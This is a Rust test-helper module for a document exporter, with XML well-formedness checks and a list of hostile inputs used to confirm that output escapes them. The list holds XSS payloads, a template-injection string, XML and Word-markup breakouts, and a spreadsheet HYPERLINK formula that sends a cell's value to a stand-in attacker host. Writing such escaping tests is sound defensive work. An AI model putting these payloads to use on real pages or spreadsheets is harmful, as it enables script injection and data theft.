//! What the tests of every format share: one document with everything in it, and readers that are
//! stricter than a browser or a word processor.

use std::collections::BTreeMap;
use std::io::{Cursor, Read};

use super::*;

/// The files of an archive by path.
pub(crate) fn unzip(bytes: Vec<u8>) -> BTreeMap<String, Vec<u8>> {
    let mut archive = ::zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    (0..archive.len())
        .map(|i| {
            let mut entry = archive.by_index(i).unwrap();
            let mut content = Vec::new();
            entry.read_to_end(&mut content).unwrap();
            (entry.name().unwrap().into_owned(), content)
        })
        .collect()
}

/// Every tag of a page, in order, with its attributes.
pub(crate) fn html_tags(page: &str) -> Vec<String> {
    page.split('<').skip(1).map(|part| part.split('>').next().unwrap().to_owned()).collect()
}

/// The tags of an XML part in order, after checking that it is well-formed: tags nest, attributes
/// are quoted, entities are known, characters are legal.
pub(crate) fn xml_tags(part: &str) -> Vec<String> {
    let mut open = Vec::new();
    let mut seen = Vec::new();
    let body = part
        .strip_prefix("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n")
        .expect("starts with the declaration");
    assert!(body.starts_with('<'));
    for piece in body.split('<').skip(1) {
        let (tag, text) = piece.split_once('>').expect("every tag is closed");
        if let Some(name) = tag.strip_prefix('/') {
            assert_eq!(open.pop().as_deref(), Some(name));
        } else {
            assert_eq!(tag.matches('"').count() % 2, 0, "{tag}");
            seen.push(tag.to_owned());
            if !tag.ends_with('/') {
                open.push(tag.split(' ').next().unwrap().to_owned());
            }
        }
        for entity in text.split('&').skip(1) {
            let name = entity.split(';').next().unwrap();
            assert!(["amp", "lt", "gt", "quot", "#39"].contains(&name), "&{name}");
        }
        assert!(text.chars().all(|c| matches!(c, '\t' | '\n') || c >= ' '));
        assert!(!text.contains(['\u{fffe}', '\u{ffff}']));
    }
    assert!(open.is_empty(), "{open:?}");
    seen
}

/// A document whose every text is `text`.
pub(crate) fn everything(text: &str) -> Document {
    let t = || text.to_owned();
    Document {
        title: t(),
        language: "en-US".to_owned(),
        blocks: vec![
            Block::heading(1, text),
            Block::Paragraph(vec![Run::plain(text), Run::bold(text)]),
            Block::list(ListStyle::Bullet, [text]),
            Block::list(ListStyle::Checkbox, [text]),
            Block::list(ListStyle::Numbered, [text]),
            Block::list(ListStyle::Numbered, [text, text]),
            Block::Table(Table {
                columns: vec![Column::text(text), Column::number(text)],
                rows: vec![vec![t(), t()], vec![t()], vec![t(), t(), t()]],
                total: Some(vec![t(), t()]),
            }),
            Block::KeyValues(vec![(t(), t())]),
            Block::PageBreak,
            Block::heading(9, text),
        ],
    }
}

/// Number of times [`everything`] prints its text (the title apart).
pub(crate) const TIMES: usize = 1 + 2 + 1 + 1 + 1 + 2 + 2 + 2 + 1 + 2 + 2 + 2 + 1;

/// Texts that try to be something else.
pub(crate) const HOSTILE: [&str; 16] = [
    "<script>window.XSS=1</script>",
    "\"><img src=x onerror=window.XSS=1>",
    "'><img src=x onerror=window.XSS=1>",
    "</title><script>window.XSS=1</script>",
    "</style><script>window.XSS=1</script>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]><script>window.XSS=1</script>",
    "&lt;script&gt;window.XSS=1&lt;/script&gt;",
    "</w:t></w:r></w:p><w:p>",
    "<?xml version=\"1.0\"?>",
    "&#0; &bogus; &",
    "=HYPERLINK(\"https://evil.invalid/?x=\"&A1,\"click\")",
    "a\u{0}b\u{1}c\u{8}d\u{b}e\u{1f}f\u{7f}g\u{fffe}h\u{ffff}i",
    "{{constructor.constructor(\"window.XSS=1\")()}}",
];
